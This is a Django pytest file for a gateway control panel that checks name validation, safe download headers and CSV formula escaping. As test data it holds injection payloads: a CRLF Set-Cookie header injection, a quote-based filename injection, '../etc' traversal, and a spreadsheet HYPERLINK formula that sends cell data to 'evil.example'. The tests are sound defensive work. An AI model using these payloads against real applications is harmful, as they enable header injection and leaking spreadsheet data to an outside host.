"""Gateway names on every surface (issue 19, finding 8), download headers per RFC 6266 and CSV cells
that cannot run as formulas (finding 10)."""

from __future__ import annotations

import csv
import io
import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from django.utils import timezone
from django.utils.http import content_disposition_header

from controlpanel.lib import csvsafe
from controlpanel.models import AuditFinding, AuditRun, Gateway
from controlpanel.services.audits import audit_suppression_set
from tests.conftest import MINIMAL_CONFIG, TEST_ENV, client_for

pytestmark = pytest.mark.django_db

BAD_NAMES = {
    "crlf": "prod\r\nSet-Cookie: x=1",
    "quote": 'prod"; filename="evil.html',
    "long": "g" * 300,
    "space": "two words",
    "slash": "../etc",
    "empty": "   ",
}


@pytest.mark.parametrize("name", BAD_NAMES.values(), ids=BAD_NAMES.keys())
def test_the_api_refuses_the_names_the_web_form_refuses(alice, name):
    """Finding 8: the API created gateways with CRLF, quotes or 300 characters in their names."""
    body = json.dumps({"name": name, "config": MINIMAL_CONFIG, "env": TEST_ENV})
    response = client_for(alice).post(reverse("api-gateway-create"), body, content_type="application/json")
    assert response.status_code == 400, response.content
    assert response.json()["path"] == "name"
    form = client_for(alice).post(
        reverse("gateway-import"),
        {"name": name, "config_text": MINIMAL_CONFIG, "env_text": "GW_TOKEN=" + "a" * 32},
    )
    assert form.status_code == 200 and form.context["form"].errors["name"]
    assert response.json()["error"] in form.context["form"].errors["name"]  # one rule, one wording
    assert not Gateway.objects.exists()


def test_the_command_refuses_them_too(tmp_path):
    path = tmp_path / "gw.json5"
    path.write_text(MINIMAL_CONFIG)
    with pytest.raises(CommandError, match="letters, digits"):
        call_command("import_config", str(path), "--name", 'a"b', stdout=StringIO(), stderr=StringIO())
    with pytest.raises(CommandError, match="at most 100"):
        call_command("import_config", str(path), "--name", "g" * 101, stdout=StringIO(), stderr=StringIO())
    assert not Gateway.objects.exists()


def test_a_good_name_still_works_everywhere(alice):
    body = {"name": " lab-1.home_2 ", "config": MINIMAL_CONFIG, "env": TEST_ENV}
    client, url = client_for(alice), reverse("api-gateway-create")
    token = client.post(url, {**body, "dryRun": True}, content_type="application/json").json()["reviewToken"]
    body |= {"reviewToken": token, "reason": "the lab"}
    response = client.post(url, body, content_type="application/json")
    assert response.status_code == 201 and response.json()["name"] == "lab-1.home_2"


@pytest.mark.parametrize(
    "name", [BAD_NAMES["crlf"], BAD_NAMES["quote"], "naïve"], ids=["crlf", "quote", "utf8"]
)
def test_downloads_name_their_file_per_rfc_6266_whatever_the_stored_name(alpha, alice, name):
    """A name stored before the rule (or through the old API) made every export answer 500 (CRLF) or
    added parameters to Content-Disposition (a quote)."""
    Gateway.objects.filter(pk=alpha.pk).update(name=name)
    run = AuditRun.objects.create(gateway=alpha, status="succeeded", finished_at=timezone.now())
    client = client_for(alice)
    downloads = {
        reverse("gateway-export", kwargs={"code": alpha.code}): f"{name}.openclaw.json",
        reverse("activity-export", kwargs={"code": alpha.code, "fmt": "csv"}): f"{name}-activity.csv",
        reverse("activity-export", kwargs={"code": alpha.code, "fmt": "json"}): f"{name}-activity.json",
    }
    for url, filename in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Disposition"] == content_disposition_header(True, filename)
        assert (
            "\r" not in response["Content-Disposition"]
            and 'evil.html"' not in response["Content-Disposition"]
        )
    response = client.get(reverse("audit-export", kwargs={"code": run.code, "fmt": "csv"}))
    assert response.status_code == 200
    filename = f"{name}-audit-{run.created_at:%Y%m%dT%H%M%S}.csv"
    assert response["Content-Disposition"] == content_disposition_header(True, filename)


# --- CSV formula injection (finding 10) ----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _cells(response) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def test_no_exported_csv_cell_starts_a_formula(alpha, alice):
    """Finding 10: a suppression's check id ``=HYPERLINK(...)`` reached the activity export as is."""
    for check_id in FORMULAS:
        audit_suppression_set(gateway=alpha, check_id=check_id, reason="-because", actor=alice)
    run = AuditRun.objects.create(gateway=alpha, status="succeeded", finished_at=timezone.now())
    for i, text in enumerate(FORMULAS):
        AuditFinding.objects.create(
            run=run,
            check_id=text,
            severity="warn",
            title=text,
            detail=text,
            remediation=text,
            config_path=text,
            position=i,
        )
    client = client_for(alice)
    for url in (
        reverse("activity-export", kwargs={"code": alpha.code, "fmt": "csv"}),
        reverse("audit-export", kwargs={"code": run.code, "fmt": "csv"}),
    ):
        cells = _cells(client.get(url))
        assert cells, url
        assert not [c for c in cells if c.startswith(csvsafe.FORMULA_STARTS)], url
        # The text is all there, one quote in front.
        assert "'" + FORMULAS[0] in cells


def test_the_csv_cell_rule():
    assert csvsafe.cell("=1+1") == "'=1+1"
    assert csvsafe.cell("plain") == "plain" and csvsafe.cell("") == ""
    assert csvsafe.cell(-5) == -5 and csvsafe.cell(None) is None and csvsafe.cell(True) is True
    out = io.StringIO()
    csvsafe.writer(out).writerows([["@x", 1], ["ok", "-y"]])
    assert out.getvalue().splitlines() == ["'@x,1", "ok,'-y"]
